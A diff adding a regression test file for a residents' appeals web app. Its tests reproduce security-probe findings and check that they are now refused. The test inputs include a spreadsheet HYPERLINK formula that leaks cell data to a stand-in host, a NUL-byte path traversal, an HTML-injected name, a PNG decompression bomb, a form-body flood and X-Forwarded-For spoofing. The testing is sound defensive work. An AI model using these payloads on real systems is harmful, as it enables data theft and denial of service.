@@ -1,0 +1,245 @@
+"""What the outside client and the security probe found (issue 10, points 3 and 4), one test per
+finding, each reproducing the report against the real app."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import logging
+import struct
+import time
+import zlib
+from dataclasses import replace
+from pathlib import Path
+
+import httpx
+import pytest
+from litestar.testing import AsyncTestClient
+from sqlalchemy import select
+from sqlalchemy.ext.asyncio import AsyncSession
+
+from server.app import create_app
+from server.models import Appeal, AppealChannel, PlaceKind, Role, SubmitterKind
+from server.services import api_keys, appeals, places
+from server.services.appeals import Actor, AppealInput
+from server.services.deadlines import TimeLimits
+from server.settings import Settings
+from tests.conftest import TEST_PASSWORD
+from tests.databases import Databases, run_isolated, settings_for
+from tests.helpers import Web
+from tests.servers import LiveServer
+
+GOOD = {"audience": "resident", "category": "environment", "description": "楼道里堆满了杂物，影响通行。"}
+
+
+async def suggest(web: Web, fields: dict[str, str], files: list | None = None) -> httpx.Response:
+    token = await web.csrf("/suggest")
+    return await web.client.post("/suggest", data={**fields, "_csrf_token": token}, files=files or [("photos", ("", b"", "application/octet-stream"))])
+
+
+# --- 3. Smaller defects ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", ["/service-worker.js", "/login", "/healthz", "/manifest.webmanifest", "/suggest", "/static/css/app.css"])
+async def test_head_answers_like_get_without_a_body(client: AsyncTestClient, path: str) -> None:
+    got = await client.get(path)
+    head = await client.head(path)
+    assert (head.status_code, head.headers.get("content-type")) == (got.status_code, got.headers.get("content-type"))
+    assert head.status_code == 200 and head.content == b""
+
+
+async def test_printed_and_sent_links_use_the_public_address(settings: Settings, db: AsyncSession, people: dict[Role, str]) -> None:
+    """A poster printed from a staff laptop on another host still carries the public address."""
+    sub = await places.create_place(db, kind=PlaceKind.SUBDISTRICT, name="解放路街道")
+    await db.commit()
+    app = create_app(replace(settings, public_url="https://shanzhi.jiefanglu.example.cn"))
+    async with AsyncTestClient(app=app, base_url="http://staff-laptop.local:8000") as client:
+        client.follow_redirects = False
+        web = Web(client)
+        await web.login(people[Role.STAFF], TEST_PASSWORD)
+        poster = (await client.get(f"/places/{sub.code}/poster")).text
+        assert f"https://shanzhi.jiefanglu.example.cn/suggest/{sub.code}" in poster
+        assert "staff-laptop.local" not in poster
+        discovery = (await client.get("/open311/discovery.json")).json()
+        assert discovery["endpoints"][0]["url"] == "https://shanzhi.jiefanglu.example.cn/open311/v2"
+    assert Settings.from_env({"SHANZHI_VAR_DIR": str(settings.var_dir), "SHANZHI_PUBLIC_URL": "https://a.example/"}).public_url == "https://a.example"
+    with pytest.raises(ValueError, match="SHANZHI_PUBLIC_URL"):
+        Settings.from_env({"SHANZHI_VAR_DIR": str(settings.var_dir), "SHANZHI_PUBLIC_URL": "a.example"})
+
+
+async def test_open311_gives_the_description_to_a_partner_with_a_key_only(client: AsyncTestClient, db: AsyncSession, settings: Settings) -> None:
+    text = "三号楼张先生家门口的下水道堵了，电话13800001234"
+    appeal = await appeals.submit(
+        db, AppealInput(channel=AppealChannel.HOTLINE, submitter_kind=SubmitterKind.RESIDENT, category="facilities", description=text),
+        actor=Actor.submitter(), limits=TimeLimits.from_settings(settings), uploads_dir=settings.uploads_dir,
+    )
+    key_row, key = await api_keys.create(db, "12345热线平台")
+    await db.commit()
+    public = (await client.get("/open311/v2/requests.json")).json()
+    assert [r["description"] for r in public] == [None]
+    partner = (await client.get("/open311/v2/requests.json", params={"api_key": key})).json()
+    assert [r["description"] for r in partner] == [text]
+    one = (await client.get(f"/open311/v2/requests/{appeal.reference}.json", params={"api_key": key})).json()
+    assert one[0]["description"] == text
+    await api_keys.revoke(db, key_row.id)
+    await db.commit()
+    assert (await client.get("/open311/v2/requests.json", params={"api_key": key})).json()[0]["description"] is None
+
+
+async def test_an_over_long_location_is_refused_not_cut(web: Web, db: AsyncSession, english: None) -> None:
+    response = await suggest(web, {**GOOD, "location_detail": "门" * 300})
+    assert response.status_code == 400
+    assert "Please keep the location under 255 characters." in response.text
+    assert await db.scalar(select(Appeal.id)) is None
+
+
+async def test_notification_log_lines_are_formatted(db: AsyncSession, settings: Settings, people: dict[Role, str], caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level(logging.INFO, logger="shanzhi.notifications")
+    appeal = await appeals.submit(
+        db, AppealInput(channel=AppealChannel.HOTLINE, submitter_kind=SubmitterKind.RESIDENT, category="facilities", description="楼道灯坏了三天，晚上很黑"),
+        actor=Actor.submitter(), limits=TimeLimits.from_settings(settings), uploads_dir=settings.uploads_dir,
+    )
+    await db.commit()
+    lines = [r.getMessage() for r in caplog.records if r.name == "shanzhi.notifications"]
+    assert lines and all(f"新诉求 {appeal.reference}" in line for line in lines)
+    assert not [line for line in lines if "%(" in line]
+
+
+# --- 4. The security probe ----------------------------------------------------------------------------------
+
+
+def one_colour_png(size: int) -> bytes:
+    """The probe's image: a one-colour PNG of size x size, a few hundred KB (built row by row, cheaply)."""
+    row = b"\x00" + b"\xff" * size
+    raw = zlib.compress(row * size, 9)
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 0, 0, 0, 0)) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")
+
+
+async def test_small_files_with_huge_pictures_are_refused_without_decoding(web: Web, db: AsyncSession, english: None) -> None:
+    bomb = one_colour_png(8900)
+    assert len(bomb) < 1_000_000
+    started = time.perf_counter()
+    response = await suggest(web, GOOD, [("photos", (f"p{i}.png", bomb, "image/png")) for i in range(3)])
+    elapsed = time.perf_counter() - started
+    assert response.status_code == 400
+    assert "This photo is too large to process; please send a smaller one." in response.text
+    assert elapsed < 2, f"the refusal took {elapsed:.1f} s: the images were decoded"  # was 4-14 s
+    assert await db.scalar(select(Appeal.id)) is None
+
+
+async def test_big_text_bodies_are_refused_before_they_are_read(client: AsyncTestClient, web: Web) -> None:
+    """A 15 MB `a=b&…` form used to stall the server for seconds; a text form is small now."""
+    token = await web.csrf("/suggest")
+    flood = f"_csrf_token={token}&".encode() + b"a=b&" * (4 * 1024 * 1024 // 4)
+    started = time.perf_counter()
+    suggested = await client.post("/suggest", content=flood, headers={"content-type": "application/x-www-form-urlencoded"})
+    login = await client.post("/login", content=flood[: 2 * 1024 * 1024], headers={"content-type": "application/x-www-form-urlencoded"})
+    assert (suggested.status_code, login.status_code) == (413, 413)
+    assert time.perf_counter() - started < 2
+
+
+async def test_refused_submissions_count_towards_a_limit(web: Web) -> None:
+    from server.routes.suggest import REFUSED_LIMIT
+
+    for _ in range(REFUSED_LIMIT):
+        assert (await suggest(web, {**GOOD, "description": "短"})).status_code == 400
+    assert (await suggest(web, GOOD)).status_code == 429
+
+
+async def test_no_spreadsheet_formula_leaves_in_an_export(web: Web, client: AsyncTestClient, db: AsyncSession, people: dict[Role, str]) -> None:
+    formula = '=HYPERLINK("http://x/?p="&Q2,"点击查看")'
+    assert (await suggest(web, {**GOOD, "submitter_name": "=1+2", "description": formula, "location_detail": "@SUM(A1)"})).status_code == 303
+    await web.login(people[Role.STAFF], TEST_PASSWORD)
+    exported = (await client.get("/appeals/export.csv")).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(exported)))
+    cells = [c for row in rows for c in row]
+    assert "'=1+2" in cells and "'" + formula in cells and "'@SUM(A1)" in cells
+    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+
+
+@pytest.mark.parametrize("client_name", ["<b>K</b>", "热线 100%"])
+async def test_a_client_name_is_shown_as_text_on_the_timeline(client_name: str, web: Web, client: AsyncTestClient, db: AsyncSession, people: dict[Role, str]) -> None:
+    sub = await places.create_place(db, kind=PlaceKind.SUBDISTRICT, name="解放路街道")
+    _row, key = await api_keys.create(db, client_name)
+    await db.commit()
+    posted = await client.post(
+        "/open311/v2/requests.json",
+        data={"api_key": key, "service_code": "facilities", "description": "小区门口路灯不亮，晚上很不安全", "address_id": sub.code},
+    )
+    assert posted.status_code == 200
+    reference = posted.json()[0]["service_request_id"]
+    await web.login(people[Role.STAFF], TEST_PASSWORD)
+    page = await client.get(f"/appeals/{reference}")
+    assert page.status_code == 200
+    assert "<b>K</b>" not in page.text
+    if client_name == "<b>K</b>":
+        assert "&lt;b&gt;K&lt;/b&gt;" in page.text
+    else:
+        assert "热线 100%" in page.text
+
+
+@pytest.mark.parametrize(
+    ("path", "status"),
+    [
+        ("/api/stats/appeals?from=0001-01-01", 400),
+        ("/open311/v2/requests.json?end_date=0001-01-01", 400),
+        ("/open311/v2/requests.json?start_date=9999-12-31", 400),
+        ("/static/%00../pyproject.toml", 400),
+        ("/appeals/2026-0%000001", 400),
+    ],
+)
+async def test_out_of_range_input_is_a_clear_400(client: AsyncTestClient, path: str, status: int) -> None:
+    response = await client.get(path)
+    assert response.status_code == status
+
+
+async def test_out_of_range_dates_in_staff_filters_are_dropped(client: AsyncTestClient, web: Web, people: dict[Role, str]) -> None:
+    await web.login(people[Role.STAFF], TEST_PASSWORD)
+    assert (await client.get("/appeals?from=9999-12-31")).status_code == 200
+    assert (await client.get("/appeals/export.csv?from=0001-01-01")).status_code == 200
+    dashboard = await client.get("/stats/appeals?from=0001-01-01")
+    assert dashboard.status_code == 400 and "2000-01-01" in dashboard.text
+
+
+async def test_a_nul_byte_in_a_form_or_a_cookie_is_no_500(web: Web, client: AsyncTestClient, db: AsyncSession) -> None:
+    """PostgreSQL refuses NUL in text: the resident's text is kept without it (the same on SQLite)."""
+    response = await suggest(web, {**GOOD, "description": "楼道里堆满了杂物\x00，影响通行。"})
+    assert response.status_code == 303
+    stored = await db.scalar(select(Appeal.description))
+    assert stored == "楼道里堆满了杂物，影响通行。"
+    client.cookies.set("shanzhi_session", "abc\x00def")
+    assert (await client.get("/suggest")).status_code == 200
+
+
+def test_a_forwarded_address_is_not_believed_from_an_unnamed_proxy(databases: Databases, tmp_path: Path) -> None:
+    """Without SHANZHI_TRUSTED_PROXIES, X-Forwarded-For changes nothing: a flood cannot claim to be
+    ten different residents."""
+    settings = settings_for(databases.fresh("schema", tmp_path), tmp_path / "var")
+    server = LiveServer(settings=settings, log_path=tmp_path / "server.log")
+    server.start()
+    try:
+        statuses = run_isolated(asyncio.run, _flood(server.url, settings.suggest_rate_limit + 1))
+    finally:
+        server.stop()
+    assert statuses[:-1] == [303] * settings.suggest_rate_limit
+    assert statuses[-1] == 429
+
+
+async def _flood(url: str, count: int) -> list[int]:
+    async with httpx.AsyncClient(base_url=url) as client:
+        statuses = []
+        for n in range(count):
+            page = await client.get("/suggest")
+            token = page.text.split('name="csrf-token" content="')[1].split('"')[0]
+            response = await client.post(
+                "/suggest", data={**GOOD, "_csrf_token": token}, files=[("photos", ("", b"", "application/octet-stream"))],
+                headers={"X-Forwarded-For": f"10.1.{n}.{n}"},
+            )
+            statuses.append(response.status_code)
+        return statuses
+
